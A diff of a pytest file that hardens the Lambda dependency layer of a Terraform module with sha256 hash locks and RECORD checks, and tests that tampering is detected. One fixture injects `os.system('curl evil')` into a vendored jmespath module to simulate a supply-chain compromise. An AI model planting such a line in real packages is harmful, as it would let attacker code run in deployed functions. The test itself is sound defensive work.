@@ -1,6 +1,9 @@
-"""The committed Lambda packages of terraform/modules/workflow are functions/ and its pinned dependencies.
+"""The committed Lambda packages of terraform/modules/workflow are functions/ and its hash-locked dependencies.
 
-No network and no Terraform: the zips are read as Lambda would read them.
+No network and no Terraform: the zips are read as Lambda would read them. The layer is checked by file hashes:
+functions/requirements.lock pins each wheel's sha256 (pip's --require-hashes enforces it when `make package`
+downloads them), each wheel's RECORD pins its files' sha256, and every file of the committed layer must match.
+`python tools/package.py --verify` repeats the download and compares the whole layer (network).
 """
 
 from __future__ import annotations
@@ -43,14 +46,78 @@ def test_the_drift_check_notices_a_changed_handler(tmp_path: Path, monkeypatch: 
     assert package.code_current() is False
 
 
-def test_dependencies_zip_carries_the_pinned_requirements() -> None:
+def test_dependencies_zip_holds_exactly_the_locked_distributions() -> None:
     with zipfile.ZipFile(package.DEPENDENCIES_ZIP) as archive:
         versions = package.zip_versions(archive)
 
-    pins = package.pinned_requirements()
-    assert {name: versions.get(name) for name in pins} == pins, "run `make package` after changing the pins"
+    locked = package.locked_requirements()
+    assert versions == {name: entry.version for name, entry in locked.items()}, "run `make package` after --lock"
     # pydantic's compiled core is the exact version pydantic requires (a mismatch fails at import).
     assert "pydantic-core" in versions
+
+
+def test_every_package_of_the_layer_transitive_ones_too_is_pinned_with_a_wheel_hash() -> None:
+    text = package.LOCK.read_text()
+    locked = package.locked_requirements(text)
+
+    assert all(len(entry.hashes) >= 1 for entry in locked.values())
+    assert all(
+        len(digest) == 64 and set(digest) <= set("0123456789abcdef") for e in locked.values() for digest in e.hashes
+    )
+    # requirements.txt's own pins are the lock's: the lock was resolved from them.
+    assert package.lock_disagreements() == []
+    # SAM's `sam build` and the development install read requirements.txt, which stays free of hashes.
+    assert "--hash" not in (package.FUNCTIONS / "requirements.txt").read_text()
+
+
+def test_a_lock_line_without_a_hash_is_refused() -> None:
+    with pytest.raises(SystemExit, match="jmespath==1.1.0"):
+        package.locked_requirements("jmespath==1.1.0\n")
+
+
+def test_every_file_of_the_layer_matches_the_hash_its_wheel_records() -> None:
+    with zipfile.ZipFile(package.DEPENDENCIES_ZIP) as archive:
+        assert package.record_mismatches(archive) == []
+
+
+def test_the_check_notices_a_file_of_the_layer_changed_under_the_same_version(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # GIVEN the committed layer with one module of a locked distribution edited, its dist-info untouched
+    layer = entries(package.DEPENDENCIES_ZIP)
+    layer["python/jmespath/parser.py"] += b"\nimport os; os.system('curl evil')\n"
+    tampered = tmp_path / "dependencies.zip"
+    tampered.write_bytes(package.deterministic_zip(layer))
+    monkeypatch.setattr(package, "DEPENDENCIES_ZIP", tampered)
+
+    # THEN the versions still agree, but the layer no longer counts as current
+    with zipfile.ZipFile(tampered) as archive:
+        assert package.zip_versions(archive)["jmespath"] == package.locked_requirements()["jmespath"].version
+        assert package.record_mismatches(archive) == [
+            "python/jmespath/parser.py: sha256 differs from its wheel's RECORD"
+        ]
+    assert package.dependencies_current() is False
+
+
+def test_the_check_notices_a_file_no_wheel_records(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    layer = entries(package.DEPENDENCIES_ZIP)
+    layer["python/sitecustomize.py"] = b"print('runs at every import')\n"
+    extra = tmp_path / "dependencies.zip"
+    extra.write_bytes(package.deterministic_zip(layer))
+    monkeypatch.setattr(package, "DEPENDENCIES_ZIP", extra)
+
+    assert package.dependencies_current() is False
+
+
+def test_a_downloaded_wheel_whose_hash_the_lock_lacks_is_refused(tmp_path: Path) -> None:
+    # GIVEN a wheel named like a locked one but with other bytes
+    wheel = tmp_path / "jmespath-1.1.0-py3-none-any.whl"
+    with zipfile.ZipFile(wheel, "w") as archive:
+        archive.writestr("jmespath/__init__.py", "print('not the locked wheel')\n")
+
+    # THEN nothing of it reaches the layer
+    with pytest.raises(SystemExit, match="jmespath-1.1.0-py3-none-any.whl: not in"):
+        package.verify_wheels([wheel], {"jmespath": package.locked_requirements()["jmespath"]})
 
 
 def test_dependencies_are_a_layer_built_for_python312_on_arm64() -> None:
